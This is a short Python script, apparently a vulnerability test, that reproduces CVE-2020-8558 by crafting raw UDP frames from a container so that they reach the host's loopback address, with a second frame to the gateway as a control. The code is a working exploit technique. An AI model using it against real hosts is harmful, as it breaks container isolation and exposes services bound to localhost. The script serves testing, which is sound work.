"""Runs in a container with CAP_NET_RAW (Docker's default set): hand-crafts UDP frames to the
gateway's MAC — one addressed to the host's 127.0.0.1 (argv[1] = port), one to the gateway's own
address (argv[2] = port) as a control that the crafting works (CVE-2020-8558)."""

import socket
import struct
import sys


def checksum(data: bytes) -> int:
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def frame(src_mac: bytes, dst_mac: bytes, src: str, dst: str, port: int, payload: bytes) -> bytes:
    udp = struct.pack("!HHHH", 40000, port, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0x4000, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + udp


gateway = None
with open("/proc/net/route") as f:
    for line in f.readlines()[1:]:
        iface, dest, gw = line.split()[:3]
        if dest == "00000000":
            gateway = socket.inet_ntoa(struct.pack("<I", int(gw, 16)))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.connect((gateway, 9))                       # our own bridge: fills the ARP cache
me = u.getsockname()[0]
u.send(b"arp")
gw_mac = None
for _ in range(50):
    with open("/proc/net/arp") as f:
        for line in f.readlines()[1:]:
            parts = line.split()
            if parts[0] == gateway and parts[3] != "00:00:00:00:00:00":
                gw_mac = bytes.fromhex(parts[3].replace(":", ""))
    if gw_mac:
        break
    import time
    time.sleep(0.05)
with open("/sys/class/net/eth0/address") as f:
    my_mac = bytes.fromhex(f.read().strip().replace(":", ""))
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind(("eth0", 0))
for _ in range(3):
    raw.send(frame(my_mac, gw_mac, me, "127.0.0.1", int(sys.argv[1]), b"to-host-loopback"))
    raw.send(frame(my_mac, gw_mac, me, gateway, int(sys.argv[2]), b"to-gateway"))
print(f"sent from {me} via {gateway}", flush=True)
